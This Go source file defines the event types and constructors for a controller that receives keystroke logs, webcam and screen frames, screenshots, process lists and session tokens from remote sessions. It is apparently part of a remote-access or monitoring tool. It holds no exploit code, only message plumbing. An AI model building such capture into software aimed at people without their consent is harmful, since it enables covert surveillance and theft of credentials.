package types

import "time"

// Event names delivered to the controller
const (
	EventStatus       = "ReceiveStatus"
	EventServerStatus = "ReceiveServerStatus"
	EventImage        = "ReceiveImage"
	EventProcessList  = "ReceiveProcessList"
	EventKeyLog       = "ReceiveKeyLog"
	EventSessionToken = "ReceiveSessionToken"
)

// Status categories carried by ReceiveStatus
const (
	StatusAuth         = "AUTH"
	StatusApp          = "APP"
	StatusKeylog       = "KEYLOG"
	StatusScreen       = "SCREENSHOT"
	StatusWebcam       = "WEBCAM"
	StatusSystem       = "SYSTEM"
	StatusStart        = "START"
	StatusKill         = "KILL"
	StatusPower        = "POWER"
	StatusServerStatus = "SERVER_STATUS"
)

// Image kinds carried by ReceiveImage
const (
	ImageScreenshot  = "SCREENSHOT"
	ImageWebcamFrame = "WEBCAM_FRAME"
	ImageScreenFrame = "SCREEN_FRAME"
)

// Event is one outbound notification for a session.
//
// Only the fields relevant to Name are populated; the codecs omit empty ones.
type Event struct {
	Name      string    `json:"name" msgpack:"name"`
	Type      string    `json:"type,omitempty" msgpack:"type,omitempty"`
	OK        bool      `json:"ok,omitempty" msgpack:"ok,omitempty"`
	Message   string    `json:"message,omitempty" msgpack:"message,omitempty"`
	Status    string    `json:"status,omitempty" msgpack:"status,omitempty"`
	Kind      string    `json:"kind,omitempty" msgpack:"kind,omitempty"`
	Data      []byte    `json:"data,omitempty" msgpack:"data,omitempty"`
	Payload   string    `json:"payload,omitempty" msgpack:"payload,omitempty"`
	Token     string    `json:"token,omitempty" msgpack:"token,omitempty"`
	Seq       uint64    `json:"seq,omitempty" msgpack:"seq,omitempty"`
	ReplyTo   string    `json:"reply_to,omitempty" msgpack:"reply_to,omitempty"`
	Timestamp time.Time `json:"timestamp" msgpack:"timestamp"`
}

// NewStatus builds a ReceiveStatus event
func NewStatus(category string, ok bool, message string) Event {
	return Event{
		Name:      EventStatus,
		Type:      category,
		OK:        ok,
		Message:   message,
		Timestamp: time.Now(),
	}
}

// NewServerStatus builds a ReceiveServerStatus event
func NewServerStatus(status string) Event {
	return Event{
		Name:      EventServerStatus,
		Status:    status,
		Timestamp: time.Now(),
	}
}

// NewImage builds a ReceiveImage event from a frame
func NewImage(kind string, frame *Frame) Event {
	return Event{
		Name:      EventImage,
		Kind:      kind,
		Data:      frame.Data,
		Seq:       frame.Seq,
		Timestamp: frame.Timestamp,
	}
}

// NewKeyLog builds a ReceiveKeyLog event
func NewKeyLog(token string) Event {
	return Event{
		Name:      EventKeyLog,
		Token:     token,
		Timestamp: time.Now(),
	}
}

// NewProcessList builds a ReceiveProcessList event with a JSON payload
func NewProcessList(payload string) Event {
	return Event{
		Name:      EventProcessList,
		Payload:   payload,
		Timestamp: time.Now(),
	}
}

// NewSessionToken builds a ReceiveSessionToken event
func NewSessionToken(token string) Event {
	return Event{
		Name:      EventSessionToken,
		Token:     token,
		Timestamp: time.Now(),
	}
}

// IsTerminalStatus reports whether the event is a ReceiveStatus
func (e Event) IsTerminalStatus() bool {
	return e.Name == EventStatus
}
